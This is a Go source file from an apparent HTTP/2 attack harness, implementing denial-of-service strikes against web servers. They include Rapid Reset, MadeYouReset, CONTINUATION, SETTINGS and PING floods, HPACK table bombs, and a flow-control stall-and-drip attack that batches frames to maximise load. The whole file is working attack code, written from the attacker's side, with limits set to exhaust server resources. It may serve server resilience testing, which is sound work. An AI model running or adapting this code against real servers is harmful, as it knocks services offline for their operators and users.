package attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// framer is an attacker's end of a connection of HTTP/2.
type framer struct {
	*http2.Framer
	conn  net.Conn
	out   *bufio.Writer
	free  chan struct{} // a token for each stream that may be begun, where that is counted
	done  chan struct{} // closed when nothing more comes
	code  string        // that the connection ended with; valid once done is closed
	block bytes.Buffer
	write *hpack.Encoder
}

// head is a good request for one byte; great is one for a mebibyte. Both name nothing in
// a table that a decoder has to keep.
const (
	head  = "\x82\x86\x04\x02/1\x01\x01a"
	great = "\x82\x86\x04\x08/1048576\x01\x01a"
)

// atOnce is how many streams an attacker has open, where it wants them open.
const atOnce = 90

// frames is a way of HTTP/2: begin comes once, strike again and again, until the
// connection ends; n counts from 0. Frames are gathered, so that there are many in a
// packet.
func frames(begin func(*framer), strike func(f *framer, n uint32) error) way {
	return func(ctx context.Context, h *hand) {
		conn := h.dial(ctx, h.target.Plain)
		if conn == nil {
			return
		}
		defer context.AfterFunc(ctx, func() { conn.Close() })()
		f := newFramer(conn)
		go f.read()
		io.WriteString(f.out, http2.ClientPreface)
		f.WriteSettings()
		f.WriteSettingsAck()
		begin(f)
		for n := uint32(0); n < mostStrikes && strike(f, n) == nil; n++ {
			if h.tally.Strikes++; n%volley == volley-1 && !f.goesOn() {
				break
			}
		}
		f.out.Flush()
		<-f.done
		conn.Close()
		h.ended(ctx, f.code)
	}
}

const (
	// mostStrikes is as many streams as a connection has (RFC 9113 5.1.1), nearly.
	mostStrikes = 1 << 29
	// volley is how many strikes come before the attacker sees whether it is still
	// connected: a little more than is forgiven at once, of most classes.
	volley = 2048
	// glance is how long it looks: on one CPU with other attackers, what came is
	// read only while nobody strikes.
	glance = time.Millisecond
)

// goesOn reports whether the connection has not ended.
func (f *framer) goesOn() bool {
	f.out.Flush()
	t := time.NewTimer(glance)
	defer t.Stop()
	select {
	case <-f.done:
		return false
	case <-t.C:
		return true
	}
}

// gathered is how many bytes of frames are written at once.
const gathered = 16 << 10

func newFramer(conn net.Conn) *framer {
	f := &framer{conn: conn, out: bufio.NewWriterSize(conn, gathered), done: make(chan struct{}), free: make(chan struct{}, atOnce)}
	f.Framer = http2.NewFramer(f.out, bufio.NewReader(conn))
	f.AllowIllegalWrites = true
	f.write = hpack.NewEncoder(&f.block)
	for range atOnce {
		f.free <- struct{}{}
	}
	return f
}

// read reads to the end, which GOAWAY is: the attacker has no more of this connection. It
// is a goroutine, and ends with the connection.
func (f *framer) read() {
	defer close(f.done)
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			f.code = endOf(err)
			return
		}
		switch frame := frame.(type) {
		case *http2.GoAwayFrame:
			f.code = frame.ErrCode.String()
			f.conn.Close()
			return
		case *http2.RSTStreamFrame:
			f.release()
		case *http2.DataFrame:
			if frame.StreamEnded() {
				f.release()
			}
		}
	}
}

// release gives back the token of a stream.
func (f *framer) release() {
	select {
	case f.free <- struct{}{}:
	default: // it was not asked for one
	}
}

// endOf names the end of a connection without a code.
func endOf(err error) string {
	if errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EPIPE) {
		return "RST"
	}
	return "closed"
}

func nothing(*framer) {}

// open sends a head.
func (f *framer) open(n uint32, block string, last bool) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: []byte(block), EndHeaders: true, EndStream: last})
}

func rapidReset(f *framer, n uint32) error {
	f.open(n, head, true)
	return f.WriteRSTStream(2*n+1, http2.ErrCodeCancel)
}

func madeYouReset(f *framer, n uint32) error {
	f.open(n, head, true)
	return f.WriteRawFrame(http2.FrameWindowUpdate, 0, 2*n+1, make([]byte, 4))
}

// half begins a head.
func half(f *framer) {
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
}

func continuation(f *framer, _ uint32) error {
	return f.WriteContinuation(1, false, []byte{0x82})
}

func settings(f *framer, n uint32) error {
	return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n % 2 * 65535})
}

func ping(f *framer, _ uint32) error { return f.WritePing(false, [8]byte{}) }

// upload begins a request whose content is to come.
func upload(f *framer) { f.open(0, "\x83\x86\x04\x02/1\x01\x01a", false) }

func windowUpdate(f *framer, n uint32) error { return f.WriteWindowUpdate(n%2, 1) }

func emptyData(f *framer, _ uint32) error { return f.WriteData(1, false, nil) }

func emptyHeaders(f *framer, n uint32) error {
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, EndStream: true})
	return f.WriteContinuation(2*n+1, true, nil)
}

func priority(f *framer, n uint32) error {
	return f.WritePriority(2*n+1, http2.PriorityParam{Weight: uint8(n)})
}

// priorityUpdate is RFC 9218 7.1.
func priorityUpdate(f *framer, n uint32) error {
	payload := binary.BigEndian.AppendUint32(nil, n%atOnce*2+1)
	return f.WriteRawFrame(0x10, 0, 0, append(payload, "u="+string('0'+rune(n%8))...))
}

// hpackBomb names by one byte what nearly fills the table, again and again.
func hpackBomb(f *framer, n uint32) error {
	f.block.Reset()
	f.write.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000)})
	f.block.Write(bytes.Repeat([]byte{0xbe}, 11_000))
	return f.open(n, head+f.block.String(), true)
}

// hpackTable empties the decoder's table twice, and fills it with what no later field
// names.
func hpackTable(f *framer, n uint32) error {
	const emptied = "\x20\x3f\xe1\x1f" // RFC 7541 6.3: 0, then 4096
	block := []byte(emptied + head)
	for i := range uint32(100) {
		block = append(block, 0x40, 4) // 6.2.1: a literal that is added
		block = binary.BigEndian.AppendUint32(block, 0x61616161+n%16<<8+i%16)
		block = append(block, 1, 'a')
	}
	f.open(n, string(block), true)
	return f.WriteRSTStream(2*n+1, http2.ErrCodeCancel)
}

// shut lets no stream send anything.
func shut(f *framer) {
	f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

// stalled is shut with as many answers under way as may be.
func stalled(f *framer) {
	shut(f)
	for n := range uint32(atOnce) {
		f.open(n, great, true)
	}
}

// stall asks for another answer as soon as one was given up.
func stall(f *framer, n uint32) error {
	select {
	case <-f.free:
	default:
		f.out.Flush()
		select {
		case <-f.free:
		case <-f.done:
			return net.ErrClosed
		}
	}
	return f.open(n, great, true)
}

func drip(f *framer, n uint32) error { return f.WriteWindowUpdate(n%atOnce*2+1, 1) }
